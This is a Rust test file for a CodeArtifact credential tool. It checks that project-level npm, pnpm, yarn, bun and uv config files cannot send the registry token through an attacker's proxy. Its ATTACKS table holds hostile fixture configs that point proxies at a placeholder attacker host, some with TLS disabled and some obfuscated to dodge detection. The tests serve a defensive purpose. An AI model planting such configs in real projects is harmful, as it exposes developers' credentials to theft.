//! Projects that lead a client to the right host, by a proxy of their own: that one hears the token as soon as the client may
//! ask without TLS, or trusts what the project tells it to.

use codeartifact_end_to_end::fixture::{NPM, PYPI, two_hops};
use codeartifact_end_to_end::{Emulator, Outcome, Sandbox};

use crate::listener::Listener;

/// Client, its command and arguments, and the project's files; `EVIL` is the attacker's proxy, `OURS` the repository, and
/// `BARE` the same without TLS.
type Attack = (
    &'static str,
    &'static [&'static str],
    &'static [(&'static str, &'static str)],
);

const PACKAGE: &str =
    "{\"name\": \"p\", \"version\": \"1.0.0\", \"dependencies\": {\"my-package\": \"1.0.0\"}}";

const ATTACKS: &[Attack] = &[
    // The token goes over the wire as it is, whatever the registry's own URL says.
    (
        "npm",
        &["npm", "install", "--ignore-scripts"],
        &[
            (".npmrc", "registry=OURS\nproxy=EVIL\nfetch-retries=0\n"),
            (
                "package.json",
                "{\"dependencies\": {\"x\": \"BAREx/-/x-1.tgz\"}}",
            ),
        ],
    ),
    (
        "npm",
        &["npm", "view", "my-package"],
        &[(
            ".npmrc",
            "registry=OURS\nstrict-ssl=false\nhttps-proxy=EVIL\nfetch-retries=0\n",
        )],
    ),
    (
        "npm",
        &["npm", "view", "my-package"],
        &[(
            ".npmrc",
            "registry=OURS\nhttps-pro${NOTHING?}xy=EVIL\nfetch-retries=0\n",
        )],
    ),
    (
        "npm",
        &["npm", "view", "my-package"],
        &[(
            ".npmrc",
            "registry=OURS\n\"https\\u002dproxy\"=EVIL\nfetch-retries=0\n",
        )],
    ),
    (
        "npm",
        &["npm", "view", "my-package"],
        &[
            (".npmrc", "registry=OURS\nglobalconfig=sub/rc\n"),
            ("sub/rc", "https-proxy=EVIL\nfetch-retries=0\n"),
        ],
    ),
    (
        "pnpm",
        &["pnpm", "install", "--ignore-scripts"],
        &[
            ("package.json", PACKAGE),
            (".npmrc", "registry=OURS\n"),
            (
                "pnpm-workspace.yaml",
                "httpsProxy: EVIL\nstrictSsl: false\nfetchRetries: 0\n",
            ),
        ],
    ),
    (
        "pnpm-10",
        &["pnpm", "install", "--ignore-scripts"],
        &[
            ("package.json", PACKAGE),
            (
                ".npmrc",
                "registry=OURS\nhttps-proxy=EVIL\nstrict-ssl=false\nfetch-retries=0\n",
            ),
        ],
    ),
    (
        "yarn-1",
        &["yarn", "install", "--ignore-scripts"],
        &[
            ("package.json", PACKAGE),
            (".npmrc", "registry=OURS\nalways-auth=true\n"),
            (".yarnrc", "https-proxy \"EVIL\"\nstrict-ssl false\n"),
        ],
    ),
    (
        "yarn",
        &["yarn", "install"],
        &[
            ("package.json", PACKAGE),
            ("yarn.lock", ""),
            (
                ".yarnrc.yml",
                "enableTelemetry: false\nnpmRegistryServer: \"OURS\"\nnetworkSettings:\n  \"*\": {\"https\\x50roxy\": \"EVIL\"}\n",
            ),
        ],
    ),
    (
        "bun",
        &["bun", "install", "--ignore-scripts"],
        &[
            ("package.json", PACKAGE),
            ("bunfig.toml", "[install]\nregistry = \"OURS\"\n"),
            (".env.local", "HTTPS_PROXY=EVIL\n"),
        ],
    ),
    (
        "uv",
        &["uv", "lock"],
        &[(
            "pyproject.toml",
            "PYTHON[tool.uv]\nhttp-proxy = \"EVIL\"\n[[tool.uv.index]]\nname = \"a\"\nurl = \"BARE\"\n",
        )],
    ),
    (
        "uv",
        &["uv", "lock"],
        &[
            ("pyproject.toml", "PYTHON"),
            (
                "uv.toml",
                "https-proxy = \"EVIL\"\n[[index]]\nname = \"a\"\nurl = \"OURS\"\n",
            ),
        ],
    ),
];

const PYTHON: &str = "[project]\nname = \"p\"\nversion = \"1\"\nrequires-python = \">=3.9\"\ndependencies = [\"my-package\"]\n";

/// No proxy but the project's: a variable would win over that.
fn machine() -> (Sandbox, Emulator) {
    let (mut sandbox, emulator) = two_hops();
    let _ = sandbox.run("codeartifact", &["token", NPM]).succeeded();
    let variables = sandbox.variables();
    let proxies = variables
        .keys()
        .filter(|name| name.to_ascii_lowercase().ends_with("_proxy"));
    proxies.for_each(|name| sandbox.unset(name));
    sandbox.set("UV_PYTHON_DOWNLOADS", "never");
    (sandbox, emulator)
}

fn attack(sandbox: &Sandbox, evil: &Listener, (client, words, files): &Attack) {
    sandbox.client(client, words[0]);
    let ours = if *client == "uv" { PYPI } else { NPM };
    for (file, text) in *files {
        let text = text.replace("PYTHON", PYTHON).replace("OURS", ours);
        let text = text.replace("BARE", &ours.replace("https:", "http:"));
        sandbox.write(
            &format!("work/{file}"),
            &text.replace("EVIL", &evil.url("")),
        );
    }
}

#[test]
fn a_projects_own_proxy_hears_no_token() {
    for it in ATTACKS {
        let (sandbox, _emulator) = machine();
        let evil = Listener::start();
        attack(&sandbox, &evil, it);
        let exec = [&["exec", "--connection", "acme", "--"], it.1].concat();
        let what = format!("{it:?}");
        let refused = sandbox.run("codeartifact", &exec);
        evil.was_not_reached(&what);
        let _ = refused
            .exited(2)
            .says(&["proxy", "project's choosing", "hint: "]);
        if it.0 != "uv" {
            let npm = [&["exec", "--"], it.1].concat();
            let _ = sandbox.run("codeartifact-npm", &npm).exited(2);
            evil.was_not_reached(&what);
        }
    }
}

/// By its own name, and where a token is in the user's file from before.
#[test]
fn a_link_named_npm_does_not_start_it_either() {
    let (sandbox, _emulator) = machine();
    sandbox.write("work/.npmrc", &format!("registry={NPM}\n"));
    let _ = sandbox.run("codeartifact-npm", &[]).succeeded();
    assert!(sandbox.read("home/.npmrc").contains(":_authToken=eyJ"));
    let evil = Listener::start();
    attack(&sandbox, &evil, &ATTACKS[0]);
    let program = std::fs::read_link(sandbox.path("bin/codeartifact-npm")).unwrap();
    let npm = std::fs::read_link(sandbox.path("bin/npm")).unwrap();
    std::fs::create_dir(sandbox.path("real")).unwrap();
    std::os::unix::fs::symlink(npm, sandbox.path("real/npm")).unwrap();
    sandbox.link("npm", &program);
    let path = format!("{0}/bin:{0}/real", sandbox.path("").display());
    let run = |words: &[&str]| -> Outcome {
        let mut command = sandbox.command("npm");
        command
            .args(words)
            .env("PATH", &path)
            .output()
            .unwrap()
            .into()
    };
    let _ = run(&["install", "--ignore-scripts"]).exited(2);
    let _ = sandbox.run("codeartifact-npm", &[]).exited(2);
    evil.was_not_reached("npm by its own name");
    // A command that asks no registry goes on, and so does a project that names none of ours.
    let _ = run(&["--version"]).succeeded();
}

/// A company's proxy is the user's to name, and a project may switch one off.
#[test]
fn the_users_own_proxy_is_used() {
    let (sandbox, _emulator) = two_hops();
    sandbox.client("npm", "npm");
    sandbox.write("work/.npmrc", &format!("registry={NPM}\nproxy=null\n"));
    let view = ["exec", "--", "npm", "view", "my-package", "version"];
    let _ = sandbox.run("codeartifact-npm", &view).succeeded();
    let proxy = sandbox.variables()["HTTPS_PROXY"].clone();
    sandbox.write("home/.npmrc", &format!("https-proxy={proxy}\n"));
    let _ = sandbox.run("codeartifact-npm", &view).succeeded();
    sandbox.write("work/.npmrc", &format!("https-proxy={proxy}\n"));
    sandbox.write("home/.npmrc", "");
    let elsewhere = ["exec", "--", "npm", "config", "get", "https-proxy"];
    let shown = sandbox.run("codeartifact-npm", &elsewhere).succeeded();
    assert!(
        shown.stdout.contains("127.0.0.1"),
        "nothing of ours is here: {shown:?}"
    );
}
